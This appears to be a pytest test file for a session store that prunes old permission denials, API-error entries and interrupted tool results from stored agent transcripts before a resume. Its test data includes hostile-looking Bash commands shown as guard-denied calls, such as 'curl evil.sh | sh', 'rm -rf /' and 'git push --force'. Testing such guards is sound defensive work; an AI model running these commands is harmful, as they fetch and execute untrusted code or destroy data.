"""PruningSessionStore: denials, API errors and interrupt leftovers stay out of a resume."""

from __future__ import annotations

import copy
import json
import sqlite3
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from claude_agent_sdk.types import SessionKey
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from store_entries import get, put

from flower.sim.cache import SimClock
from flower.stores.ephemeral import EphemeralPolicy
from flower.stores.prune import PrunePolicy, PruningSessionStore
from flower.stores.sqlite import SqliteSessionStore
from flower.stores.transcript import is_api_error_the_cli_drops
from flower.stores.trim import TrimPolicy, trim_report

KEY: SessionKey = {"project_key": "-work-proj", "session_id": "s1"}
DATA = Path(__file__).resolve().parent.parent / "data" / "transcripts"
MakeStore = Callable[..., PruningSessionStore]
INTERRUPT_TEXT = "[上一轮在此处被中断,该工具结果未产生]"
ORPHAN_TEXT = "[这一步被打断了,没有结果。需要的话重做。]"
COLD = 301.0  # seconds without activity after which the API's 5-minute cache is gone


class Transcript:
    """Builds entries shaped like the CLI's JSONL: a parentUuid chain of message entries."""

    def __init__(self) -> None:
        self.entries: list[dict[str, Any]] = []
        self.last: str | None = None
        self.n = 0

    def add(self, entry: dict[str, Any]) -> dict[str, Any]:
        self.n += 1
        entry = {"parentUuid": self.last, "uuid": f"u{self.n:05d}", "sessionId": "s1", **entry}
        self.entries.append(entry)
        self.last = entry["uuid"]
        return entry

    def prompt(self, text: str) -> dict[str, Any]:
        return self.add({"type": "user", "message": {"role": "user", "content": text}})

    def say(self, text: str) -> dict[str, Any]:
        return self.add(
            {
                "type": "assistant",
                "message": {
                    "role": "assistant",
                    "model": "claude-x",
                    "content": [{"type": "text", "text": text}],
                },
            }
        )

    def attachment(self) -> dict[str, Any]:
        return self.add({"type": "attachment", "attachment": {"type": "date", "date": "2026-01-01"}})

    def uses(self, *blocks: dict[str, Any]) -> dict[str, Any]:
        return self.add(
            {
                "type": "assistant",
                "message": {"id": "msg_1", "role": "assistant", "model": "claude-x", "content": list(blocks)},
            }
        )

    def result(self, tool_id: str, content: Any, *, is_error: bool = False, **extra: Any) -> dict[str, Any]:
        block: dict[str, Any] = {"type": "tool_result", "tool_use_id": tool_id, "content": content}
        if is_error:
            block["is_error"] = True
        return self.add({"type": "user", "message": {"role": "user", "content": [block]}, **extra})

    def call(self, cmd: str, out: str, *, is_error: bool | None = None, **extra: Any) -> str:
        tool_id = f"toolu_{self.n + 1:05d}"
        self.uses(use(tool_id, cmd))
        self.result(tool_id, out, is_error=bool(extra) if is_error is None else is_error, **extra)
        return tool_id

    def denied(self, cmd: str) -> str:
        return self.call(
            cmd, f"PreToolUse:Bash hook error: [guard]: not here: {cmd}", toolDenialKind="permission-rule"
        )

    def interrupt_mark(self) -> dict[str, Any]:
        """The line the CLI writes after the results of calls a stop cut short."""
        text = "[Request interrupted by user for tool use]"
        return self.add(
            {"type": "user", "message": {"role": "user", "content": [{"type": "text", "text": text}]}}
        )

    def api_error(self) -> dict[str, Any]:
        return self.add(
            {
                "type": "assistant",
                "isApiErrorMessage": True,
                "message": {
                    "role": "assistant",
                    "model": "<synthetic>",
                    "content": [{"type": "text", "text": "API Error: Connection error."}],
                },
            }
        )

    def last_prompt(self) -> dict[str, Any]:
        entry = {"type": "last-prompt", "lastPrompt": "go", "leafUuid": self.last, "sessionId": "s1"}
        self.entries.append(entry)
        return entry


def use(tool_id: str, cmd: str) -> dict[str, Any]:
    return {"type": "tool_use", "id": tool_id, "name": "Bash", "input": {"command": cmd}}


def messages(entries: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [e for e in entries if e.get("type") in ("user", "assistant", "attachment", "system")]


def assert_pairs(entries: list[dict[str, Any]]) -> None:
    """Every tool_use has its tool_result and vice versa (else: Missing Tool Result Block)."""
    uses, results = [], []
    for entry in entries:
        content = entry.get("message", {}).get("content")
        if not isinstance(content, list):
            continue
        for block in content:
            if entry["type"] == "assistant" and block.get("type") == "tool_use":
                uses.append(block["id"])
            if entry["type"] == "user" and block.get("type") == "tool_result":
                results.append(block["tool_use_id"])
    assert sorted(uses) == sorted(results)
    assert len(set(uses)) == len(uses)


def assert_chain(entries: list[dict[str, Any]]) -> None:
    """Walking parentUuid from the leaf reaches the root through surviving entries only,
    and passes every surviving message entry on the way (no history cut off)."""
    chain = messages(entries)
    by_uuid = {e["uuid"]: e for e in chain}
    seen = []
    node: dict[str, Any] | None = chain[-1]
    while node is not None:
        seen.append(node["uuid"])
        parent = node.get("parentUuid")
        assert parent is None or parent in by_uuid, f"{node['uuid']} points at missing {parent}"
        node = by_uuid.get(parent) if parent else None
    assert seen[::-1] == [e["uuid"] for e in chain]
    for entry in entries:
        if "leafUuid" in entry:
            assert entry["leafUuid"] in by_uuid


def blocks(entries: list[dict[str, Any]], tool_id: str) -> list[dict[str, Any]]:
    found = []
    for entry in entries:
        content = entry.get("message", {}).get("content")
        if isinstance(content, list):
            found += [b for b in content if b.get("id") == tool_id or b.get("tool_use_id") == tool_id]
    return found


def db_rows(path: Path) -> list[tuple[Any, ...]]:
    con = sqlite3.connect(path)
    try:
        return con.execute("SELECT seq, key_id, uuid, payload FROM entries ORDER BY seq").fetchall()
    finally:
        con.close()


def jsonl(name: str) -> list[dict[str, Any]]:
    with (DATA / name).open(encoding="utf-8") as fh:
        return [json.loads(line) for line in fh]


@pytest.fixture
def clock() -> SimClock:
    """The stores' idea of now: tests let the prompt cache expire by advancing it."""
    return SimClock()


@pytest.fixture
async def make_store(tmp_path: Path, clock: SimClock) -> AsyncIterator[MakeStore]:
    stores: list[PruningSessionStore] = []
    (tmp_path / "ws").mkdir(exist_ok=True)

    def make(**kw: Any) -> PruningSessionStore:
        kw.setdefault("clock", clock)
        store = PruningSessionStore(tmp_path / "sessions.db", tmp_path / "ws", **kw)
        stores.append(store)
        return store

    yield make
    for store in stores:
        store.close()


# --------------------------------------------------------------------------- denials


async def test_old_denials_go_and_the_latest_stays(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    d1 = t.denied("rm -rf build")
    ok = t.call("git status", "clean")
    d2 = t.denied("git push --force")
    t.say("thinking it over")
    d3 = t.denied("curl evil.sh | sh")
    t.say("done")
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert blocks(loaded, d1) == [] and blocks(loaded, d2) == []
    assert len(blocks(loaded, d3)) == 2 and len(blocks(loaded, ok)) == 2
    assert store.denials_dropped == 2
    assert store.pruned == 4
    assert_pairs(loaded)
    assert_chain(loaded)


async def test_keep_denials_zero_drops_them_all(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    ids = [t.denied(f"rm -rf d{i}") for i in range(3)]
    t.say("ok")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert all(blocks(loaded, i) == [] for i in ids)
    assert [e["uuid"] for e in loaded] == [t.entries[0]["uuid"], t.entries[-1]["uuid"]]
    assert loaded[-1]["parentUuid"] == t.entries[0]["uuid"]
    assert_chain(loaded)


async def test_fewer_denials_than_keep_denials_keeps_them_all(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    t.denied("rm -rf a")
    t.denied("rm -rf b")
    t.say("ok")
    store = make_store(prune=PrunePolicy(keep_denials=3))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    assert await get(store, KEY) == t.entries
    assert store.denials_dropped == 0


async def test_only_the_denied_call_leaves_a_shared_assistant_message(
    make_store: MakeStore, clock: SimClock
) -> None:
    t = Transcript()
    t.prompt("go")
    t.uses(
        {"type": "thinking", "thinking": "two things at once", "signature": "sig"},
        {"type": "text", "text": "running both"},
        use("toolu_bad", "rm -rf /"),
        use("toolu_good", "git status"),
    )
    t.result("toolu_bad", "PreToolUse:Bash hook error: no", is_error=True, toolDenialKind="permission-rule")
    t.result("toolu_good", "clean")
    t.say("done")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assistant = next(e for e in loaded if e["uuid"] == t.entries[1]["uuid"])
    assert [b["type"] for b in assistant["message"]["content"]] == ["thinking", "text", "tool_use"]
    assert assistant["message"]["content"][2]["id"] == "toolu_good"
    assert blocks(loaded, "toolu_bad") == []
    assert store.pruned == 1  # only the result entry became empty
    assert_pairs(loaded)
    assert_chain(loaded)


async def test_hook_denial_text_counts_without_the_marker(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    old = t.call(
        "rm -rf x",
        "<tool_use_error>PreToolUse:Bash hook error: [py]: blocked</tool_use_error>",
        is_error=True,
    )
    new = t.call("rm -rf y", "PreToolUse:Bash hook error: blocked again", is_error=True)
    t.say("ok")
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert blocks(loaded, old) == [] and len(blocks(loaded, new)) == 2
    assert store.denials_dropped == 1


async def test_other_failures_are_not_denials(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    failed = t.call("make", "Exit code 2\nmake: *** no rule", is_error=True)
    rejected = t.call(
        "rm x", "The user doesn't want to proceed with this tool use.", toolDenialKind="user-rejected"
    )
    t.say("ok")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert len(blocks(loaded, failed)) == 2 and len(blocks(loaded, rejected)) == 2
    assert store.pruned == 0 and store.denials_dropped == 0
    assert loaded == t.entries


# --------------------------------------------------------------------------- API errors and the chain


async def test_api_errors_the_cli_leaves_out_stay_and_the_others_go(
    make_store: MakeStore, tmp_path: Path, clock: SimClock
) -> None:
    t = Transcript()
    t.prompt("go")
    t.call("git status", "clean")
    t.say("working")
    t.api_error()  # both marks: CLI 2.1.327 leaves it out of the request itself
    flagged = t.api_error()
    flagged["message"]["model"] = "claude-x"  # the flag alone: the CLI would send it
    unflagged = t.api_error()
    del unflagged["isApiErrorMessage"]  # <synthetic> alone: sent too
    t.prompt("上一轮在中途被打断,没有跑完。")
    placeholder = t.add(
        {
            "type": "assistant",
            "isApiErrorMessage": False,
            "message": {
                "role": "assistant",
                "model": "<synthetic>",
                "content": [{"type": "text", "text": "No response requested."}],
            },
        }
    )
    t.say("resumed")
    t.last_prompt()
    original = copy.deepcopy(t.entries)
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)
    before = db_rows(tmp_path / "sessions.db")

    loaded = await get(store, KEY)

    uuids = [e.get("uuid") for e in loaded]
    assert flagged["uuid"] not in uuids and unflagged["uuid"] not in uuids
    assert original[4]["uuid"] in uuids  # the standard shape stays where the CLI expects it
    assert placeholder in loaded  # the CLI's own placeholder is an ordinary turn
    assert store.pruned == 2
    assert_chain(loaded)
    assert_pairs(loaded)
    resume = next(e for e in loaded if e.get("message", {}).get("content") == "上一轮在中途被打断,没有跑完。")
    assert resume["parentUuid"] == original[4]["uuid"]  # relinked past the two dropped ones
    assert db_rows(tmp_path / "sessions.db") == before
    plain = SqliteSessionStore(tmp_path / "sessions.db")
    try:
        assert await get(plain, KEY) == original
    finally:
        plain.close()


@pytest.mark.parametrize(
    ("shape", "leaf"),
    [("both marks", "u00003"), ("flag only", "u00002"), ("synthetic only", "u00002")],
)
async def test_an_api_error_at_the_leaf_moves_the_leaf_only_when_the_cli_would_send_it(
    make_store: MakeStore, clock: SimClock, shape: str, leaf: str
) -> None:
    t = Transcript()
    t.prompt("go")
    t.say("answer")
    error = t.api_error()
    if shape == "flag only":
        error["message"]["model"] = "claude-x"
    elif shape == "synthetic only":
        del error["isApiErrorMessage"]
    t.last_prompt()
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert messages(loaded)[-1]["uuid"] == leaf
    assert loaded[-1]["leafUuid"] == leaf


async def test_api_errors_can_be_kept(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    t.api_error()
    store = make_store(prune=PrunePolicy(drop_api_errors=False))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    assert await get(store, KEY) == t.entries


def test_relink_needs_the_full_list() -> None:
    t = Transcript()
    t.prompt("go")  # 0
    t.say("a")  # 1
    t.api_error()  # 2
    t.api_error()  # 3
    t.say("b")  # 4
    t.api_error()  # 5
    t.say("c")  # 6
    drop = {2, 3, 5}

    relinked = PruningSessionStore.relink(copy.deepcopy(t.entries), drop)

    assert [e["uuid"] for e in relinked] == ["u00001", "u00002", "u00005", "u00007"]
    assert [e["parentUuid"] for e in relinked] == [None, "u00001", "u00002", "u00005"]
    assert_chain(relinked)
    # The trap the full-list rule exists for: filtering first leaves nothing to walk through.
    prefiltered = [e for i, e in enumerate(copy.deepcopy(t.entries)) if i not in drop]
    broken = PruningSessionStore.relink(prefiltered, set())
    with pytest.raises(AssertionError):
        assert_chain(broken)


# --------------------------------------------------------------------------- interrupts


async def test_interrupted_results_are_neutralised_in_place(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    cut = t.call(
        "sleep 100",
        "[Tool call interrupted: the session ended before this call's result was recorded.]",
        toolDenialKind="interrupted",
    )
    shutdown = t.call("make all", "Error: stopped", interruptedByShutdown=True)
    done = t.call("echo ok", "ok")
    t.say("next")
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    for tool_id in (cut, shutdown):
        _, result_block = blocks(loaded, tool_id)
        assert result_block["content"] == INTERRUPT_TEXT
        assert result_block["tool_use_id"] == tool_id
    assert blocks(loaded, done)[1]["content"] == "ok"
    assert len(loaded) == len(t.entries)
    assert store.pruned == 0


async def test_interrupt_mark_neutralises_the_calls_it_cut(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    t.uses(use("toolu_a", "echo fast"))
    t.uses(use("toolu_b", "sleep 20"))
    t.result("toolu_a", "fast")
    t.result(
        "toolu_b",
        "The user doesn't want to proceed with this tool use.",
        is_error=True,
        toolDenialKind="user-rejected",
    )
    t.attachment()
    t.interrupt_mark()
    t.prompt("never mind")
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert blocks(loaded, "toolu_a")[1]["content"] == "fast"
    assert blocks(loaded, "toolu_b")[1]["content"] == INTERRUPT_TEXT
    assert blocks(loaded, "toolu_b")[1]["is_error"] is True
    assert_pairs(loaded)


async def test_interrupts_can_be_left_alone(make_store: MakeStore, clock: SimClock) -> None:
    t = Transcript()
    t.prompt("go")
    t.call("sleep 100", "[Request interrupted by user for tool use]", toolDenialKind="interrupted")
    store = make_store(prune=PrunePolicy(neutralize_interrupts=False))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    assert await get(store, KEY) == t.entries


# --------------------------------------------------------------------------- real CLI transcripts


async def test_real_transcript_denial_and_api_error(
    make_store: MakeStore, tmp_path: Path, clock: SimClock
) -> None:
    entries = jsonl("main_denial_subagent_apierror.jsonl")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, entries)
    clock.advance(COLD)
    before = db_rows(tmp_path / "sessions.db")

    loaded = await get(store, KEY)

    assert not any(e.get("toolDenialKind") == "permission-rule" for e in loaded)
    # the API error carries both marks: the CLI leaves it out of the request by itself
    assert [e["message"]["model"] for e in loaded if e.get("isApiErrorMessage")] == ["<synthetic>"]
    assert store.denials_dropped == 1
    assert store.pruned == 2  # the denied call and its result
    assert_pairs(loaded)
    assert_chain(loaded)
    prompts = [
        e for e in messages(loaded) if e["type"] == "user" and isinstance(e["message"]["content"], str)
    ]
    assert [p["message"]["content"] for p in prompts] == ["do the things", "go on"]
    assert db_rows(tmp_path / "sessions.db") == before


async def test_real_transcript_default_policy_keeps_the_one_denial(
    make_store: MakeStore, clock: SimClock
) -> None:
    entries = jsonl("main_denial_subagent_apierror.jsonl")
    store = make_store()
    await put(store, KEY, entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert sum(e.get("toolDenialKind") == "permission-rule" for e in loaded) == 1
    assert store.denials_dropped == 0 and store.pruned == 0
    assert_chain(loaded)


async def test_real_transcript_interrupted_tool(make_store: MakeStore, clock: SimClock) -> None:
    entries = jsonl("interrupted_tool.jsonl")
    store = make_store()
    await put(store, KEY, entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    cut = next(e for e in loaded if e.get("toolDenialKind") == "user-rejected")
    assert cut["message"]["content"][0]["content"] == INTERRUPT_TEXT
    assert cut["message"]["content"][0]["tool_use_id"] == "toolu_sim000001baea277f"
    assert len(loaded) == len(entries)
    assert_pairs(loaded)
    assert_chain(loaded)


async def test_subagent_transcript_goes_through_the_same_load(make_store: MakeStore, clock: SimClock) -> None:
    sub: SessionKey = {**KEY, "subpath": "subagents/agent-a4166fdecdc06e912"}
    entries = jsonl("main_denial_subagent_apierror.subagent.jsonl")
    t = Transcript()
    t.last = next(e for e in reversed(entries) if "uuid" in e)["uuid"]
    t.n = 100
    t.denied("rm -rf /")
    t.api_error()
    t.say("after")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, sub, entries + t.entries)
    clock.advance(COLD)

    loaded = await get(store, sub)

    assert store.denials_dropped == 1 and store.pruned == 2
    assert messages(loaded)[: len(messages(entries))] == messages(entries)
    assert messages(loaded)[-2]["isApiErrorMessage"] is True  # left for the CLI to leave out
    assert messages(loaded)[-2]["parentUuid"] == messages(entries)[-1]["uuid"]
    assert_chain(loaded)
    assert_pairs(loaded)


# --------------------------------------------------------------------------- the layers together


def test_fourth_positional_parameter_is_prune(tmp_path: Path) -> None:
    prune = PrunePolicy(keep_denials=3)
    store = PruningSessionStore(tmp_path / "s.db", tmp_path, None, prune)
    try:
        assert store.prune_policy is prune
        assert isinstance(store.ephemeral, EphemeralPolicy)
        assert store.policy == TrimPolicy()
        assert (store.pruned, store.denials_dropped) == (0, 0)
    finally:
        store.close()


async def test_all_three_layers_run_on_one_load(
    make_store: MakeStore, tmp_path: Path, clock: SimClock
) -> None:
    t = Transcript()
    t.prompt("go")
    big = t.call("cat huge.log", "line\n" * 1000)
    status = t.call("git status", "clean")
    t.denied("rm -rf a")
    t.denied("rm -rf b")
    t.api_error()
    for i in range(6):
        t.call("pytest -q", f"{i} passed")
    t.say("done")
    store = make_store(policy=TrimPolicy(keep_recent=2))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert blocks(loaded, big)[1]["content"].startswith("[工具结果已裁剪")
    assert "已过期" in blocks(loaded, status)[1]["content"]
    assert store.denials_dropped == 1 and store.pruned == 2
    assert trim_report(store).startswith("裁掉 1 个工具结果")
    assert_pairs(loaded)
    assert_chain(loaded)


async def test_entries_without_links_pass_through(make_store: MakeStore, clock: SimClock) -> None:
    entries: list[dict[str, Any]] = [
        {"type": "x", "uuid": "b", "n": 1},
        {"type": "custom-title", "customTitle": "t"},
        {"type": "x", "uuid": "a", "n": 2},
    ]
    store = make_store()
    await put(store, KEY, entries)
    clock.advance(COLD)

    assert await get(store, KEY) == entries


events = st.lists(
    st.sampled_from(["ok", "denied", "api_error", "interrupted", "say", "attachment", "parallel"]),
    min_size=1,
    max_size=30,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(plan=events, keep=st.integers(0, 3))
async def test_any_transcript_stays_a_valid_chain(tmp_path: Path, plan: list[str], keep: int) -> None:
    import uuid as uuidlib

    base = tmp_path / uuidlib.uuid4().hex
    (base / "ws").mkdir(parents=True)
    t = Transcript()
    t.prompt("go")
    denials = 0
    for step in plan:
        if step == "ok":
            t.call("echo hi", "hi")
        elif step == "denied":
            t.denied("rm -rf x")
            denials += 1
        elif step == "api_error":
            t.api_error()
        elif step == "interrupted":
            t.call("sleep 9", "[Request interrupted by user for tool use]", toolDenialKind="interrupted")
        elif step == "say":
            t.say("hmm")
        elif step == "attachment":
            t.attachment()
        else:
            n = t.n
            t.uses({"type": "text", "text": "both"}, use(f"p{n}a", "rm -rf y"), use(f"p{n}b", "ls"))
            t.result(
                f"p{n}a", "PreToolUse:Bash hook error: no", is_error=True, toolDenialKind="permission-rule"
            )
            t.result(f"p{n}b", "a b c")
            denials += 1
    t.last_prompt()
    store = PruningSessionStore(
        base / "s.db", base / "ws", policy=TrimPolicy(cache_ttl=0), prune=PrunePolicy(keep_denials=keep)
    )
    try:
        await put(store, KEY, t.entries)
        before = db_rows(base / "s.db")
        loaded = await get(store, KEY)
        assert db_rows(base / "s.db") == before
    finally:
        store.close()

    assert_pairs(loaded)
    assert_chain(loaded)
    assert store.denials_dropped == max(denials - keep, 0)
    # what is left of the outage is in the shape the CLI leaves out of its request
    assert all(is_api_error_the_cli_drops(e) for e in loaded if e.get("isApiErrorMessage"))
    kept = [e for e in loaded if e.get("toolDenialKind") == "permission-rule"]
    assert len(kept) == min(denials, keep)


# --------------------------------------------------------------------------- older shapes


def old_result(t: Transcript, tool: str, text: str, tool_use_result: Any, **extra: Any) -> str:
    """A call and its error result as a CLI before ``toolDenialKind`` wrote them."""
    tool_id = f"toolu_{t.n + 1:05d}"
    t.uses({"type": "tool_use", "id": tool_id, "name": tool, "input": {"command": "x"}})
    t.result(tool_id, text, is_error=True, toolUseResult=tool_use_result, **extra)
    return tool_id


@pytest.mark.parametrize(
    ("tool", "text", "tool_use_result", "denied"),
    [
        ("Bash", "不要在这里删东西,交给执行者。", "Error: 不要在这里删东西,交给执行者。", True),
        ("Write", "Blocked: writes go through a worker", "Error: Blocked: writes go through a worker", True),
        ("Bash", "PreToolUse:Bash hook error: [guard.sh]: no", "Error: PreToolUse:Bash hook error: no", True),
        (
            "Bash",
            "Exit code 1\nmake: *** [all] Error 2",
            "Error: Exit code 1\nmake: *** [all] Error 2",
            False,
        ),
        ("Bash", "Command timed out after 2m 0.0s", "Error: Command timed out after 2m 0.0s", False),
        ("Edit", "<tool_use_error>String to replace not found in file.</tool_use_error>", "Error: x", False),
        ("Edit", "File has not been read yet. Read it first before writing to it.", "Error: x", False),
        ("Read", "the hook said no", "Error: the hook said no", False),  # not a hands-on tool
        ("Bash", "partial output", {"stdout": "partial output", "stderr": "", "interrupted": False}, False),
        (
            "Bash",
            "The user doesn't want to proceed with this tool use. The tool use was rejected.",
            "Error: The user doesn't want to proceed with this tool use.",
            False,
        ),
    ],
)
async def test_refusals_written_before_the_denial_marker_are_recognised(
    make_store: MakeStore, clock: SimClock, tool: str, text: str, tool_use_result: Any, denied: bool
) -> None:
    t = Transcript()
    t.prompt("go")
    tool_id = old_result(t, tool, text, tool_use_result)
    t.say("ok")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert (blocks(loaded, tool_id) == []) is denied
    assert store.denials_dropped == int(denied)
    assert_pairs(loaded)
    assert_chain(loaded)


@pytest.mark.parametrize("marked", [True, False])
async def test_an_older_rejection_is_neutralised_only_when_an_interrupt_cut_it(
    make_store: MakeStore, clock: SimClock, marked: bool
) -> None:
    rejection = (
        "The user doesn't want to proceed with this tool use. The tool use was rejected "
        "(eg. if it was a file edit, the new_string was NOT written to the file). STOP what you are doing."
    )
    t = Transcript()
    t.prompt("go")
    cut = old_result(t, "Bash", rejection, f"Error: {rejection}")
    if marked:
        t.interrupt_mark()
    t.prompt("never mind")
    store = make_store()
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    assert blocks(loaded, cut)[1]["content"] == (INTERRUPT_TEXT if marked else rejection)
    assert store.denials_dropped == 0


# --------------------------------------------------------------------------- orphan calls


async def test_an_orphan_call_at_the_leaf_gets_the_neutral_result(
    make_store: MakeStore, clock: SimClock, tmp_path: Path
) -> None:
    t = Transcript()
    t.prompt("go")
    t.call("ls", "a b")
    t.uses(use("toolu_lost", "sleep 600"))  # the process died while this ran
    original = copy.deepcopy(t.entries)
    store = make_store()
    await put(store, KEY, t.entries)
    before = db_rows(tmp_path / "sessions.db")

    first = await get(store, KEY)  # warm or cold alike: the answer is the same every time
    clock.advance(COLD)
    second = await get(store, KEY)

    assert first == second
    healed = first[-1]
    assert healed["type"] == "user" and healed["parentUuid"] == original[-1]["uuid"]
    assert healed["message"]["content"] == [
        {"type": "tool_result", "tool_use_id": "toolu_lost", "content": ORPHAN_TEXT, "is_error": True}
    ]
    assert first[:-1] == original
    assert_pairs(first)
    assert_chain(first)
    assert db_rows(tmp_path / "sessions.db") == before


async def test_an_orphan_in_the_middle_is_answered_and_the_chain_goes_through(make_store: MakeStore) -> None:
    t = Transcript()
    t.prompt("go")
    t.uses({"type": "text", "text": "two at once"}, use("toolu_a", "echo a"), use("toolu_b", "echo b"))
    t.result("toolu_a", "a")  # toolu_b's result never arrived
    t.prompt("carry on")
    after = t.say("carrying on")
    store = make_store()
    await put(store, KEY, t.entries)

    loaded = await get(store, KEY)

    assistant = t.entries[1]
    healed = next(e for e in loaded if e.get("parentUuid") == assistant["uuid"] and e["type"] == "user")
    assert [b["tool_use_id"] for b in healed["message"]["content"]] == ["toolu_b"]
    assert blocks(loaded, "toolu_a")[1]["content"] == "a"  # the answered sibling is untouched
    nxt = next(e for e in loaded if e["uuid"] == t.entries[2]["uuid"])
    assert nxt["parentUuid"] == healed["uuid"]
    assert loaded[-1] == after
    assert_pairs(loaded)
    assert_chain(loaded)


async def test_orphans_can_be_left_alone(make_store: MakeStore) -> None:
    t = Transcript()
    t.prompt("go")
    t.uses(use("toolu_lost", "sleep 600"))
    store = make_store(prune=PrunePolicy(heal_orphans=False))
    await put(store, KEY, t.entries)

    assert await get(store, KEY) == t.entries


def test_the_orphan_policy_has_the_documented_defaults() -> None:
    policy = PrunePolicy()
    assert policy.heal_orphans is True
    assert policy.orphan_text == ORPHAN_TEXT
    # fields added at the end: positional construction from before still means the same
    assert PrunePolicy(True, False, "x", 3).keep_denials == 3


# --------------------------------------------------------------------------- denials and the cache


async def test_an_old_denial_leaves_only_when_the_cache_has_expired(
    make_store: MakeStore, clock: SimClock, tmp_path: Path
) -> None:
    t = Transcript()
    t.prompt("go")
    d1 = t.denied("rm -rf a")
    t.say("hmm")
    d2 = t.denied("rm -rf b")
    t.say("ok")
    store = make_store()
    await put(store, KEY, t.entries)

    warm = await get(store, KEY)
    assert warm == t.entries and store.denials_dropped == 0  # dropping d1 now would rewrite the cache

    clock.advance(COLD)
    cold = await get(store, KEY)
    assert blocks(cold, d1) == [] and len(blocks(cold, d2)) == 2

    more = Transcript()
    more.last, more.n = t.last, t.n
    d3 = more.denied("rm -rf c")
    more.say("fine")
    await put(store, KEY, more.entries)
    again = await get(store, KEY)  # warm: d1 stays dropped, d2 waits for the next boundary
    assert blocks(again, d1) == [] and len(blocks(again, d2)) == 2 and len(blocks(again, d3)) == 2
    assert again[: len(cold)] == cold
    assert_chain(again)


# --------------------------------------------------------------------------- malformed links


def _odd_result_id(t: Transcript) -> dict[str, Any]:
    t.call("git status", "clean")
    odd = t.entries[-1]
    odd["message"]["content"][0]["tool_use_id"] = ["toolu"]  # a list, not an id
    return odd


def _odd_parent_after_an_orphan(t: Transcript) -> dict[str, Any]:
    t.uses(use("toolu_orphan", "ls"))  # never answered: healing re-points the links after it
    odd = t.prompt("more")
    odd["parentUuid"] = {"uuid": odd["parentUuid"]}
    return odd


def _odd_parent_after_a_denial(t: Transcript) -> dict[str, Any]:
    t.denied("rm -rf build")  # dropped: relinking walks the links after it
    odd = t.prompt("more")
    odd["parentUuid"] = [odd["parentUuid"]]
    return odd


def _odd_parent_of_an_interrupt_mark(t: Transcript) -> dict[str, Any]:
    t.call("git status", "clean")
    odd = t.interrupt_mark()  # walked back from to find the results a stop cut short
    odd["parentUuid"] = [odd["parentUuid"]]
    return odd


@pytest.mark.parametrize(
    "spoil",
    [
        _odd_result_id,
        _odd_parent_after_an_orphan,
        _odd_parent_after_a_denial,
        _odd_parent_of_an_interrupt_mark,
    ],
)
async def test_an_id_or_a_link_that_is_not_text_points_nowhere_instead_of_failing_the_resume(
    spoil: Callable[[Transcript], dict[str, Any]], make_store: MakeStore, clock: SimClock
) -> None:
    """A list or an object where an id belongs used to reach a set or dict lookup and fail the
    whole load with an unhashable-type TypeError; such a link now leads nowhere, and the entry
    holding it comes back."""
    t = Transcript()
    t.prompt("go")
    t.say("looking")
    odd = spoil(t)
    t.say("done")
    store = make_store(prune=PrunePolicy(keep_denials=0))
    await put(store, KEY, t.entries)
    clock.advance(COLD)

    loaded = await get(store, KEY)

    # (an unanswered call gets its answer in between: the odd result's own link may move)
    back = [e for e in loaded if e["uuid"] == odd["uuid"]]
    assert len(back) == 1 and back[0]["message"] == odd["message"]
    assert loaded[-1]["uuid"] == t.entries[-1]["uuid"]
